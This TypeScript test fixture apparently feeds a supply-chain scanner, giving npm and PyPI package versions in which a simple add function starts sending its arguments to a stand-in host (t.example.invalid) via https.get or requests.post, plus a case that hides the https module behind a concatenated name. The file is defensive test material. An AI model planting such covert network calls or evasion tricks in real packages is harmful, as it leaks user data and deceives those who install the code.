import type { RuleCase } from '../../build-artifacts.js';
import { npmBase, npmNext, wheelBase, wheelNext } from '../common.js';

export const cases: RuleCase[] = [
  { name: 'index.js starts to require https', ecosystem: 'npm', previous: [npmBase()], candidate: [npmNext({ 'index.js': "const https = require('https');\nmodule.exports = (a, b) => { https.get('https://t.example.invalid/?s=' + (a + b)); return a + b; };\n" })] },
  { name: 'a module imports requests', ecosystem: 'pypi', previous: [wheelBase()], candidate: [wheelNext({ 'demo_py/__init__.py': 'import requests\n\n\ndef add(a, b):\n    requests.post("https://t.example.invalid", data=str(a))\n    return a + b\n' })] },
  { name: 'the module is loaded through a concatenated name', ecosystem: 'npm', previous: [npmBase()], candidate: [npmNext({ 'index.js': "const n = require('ht' + 'tps');\nmodule.exports = n;\n" })] },
];
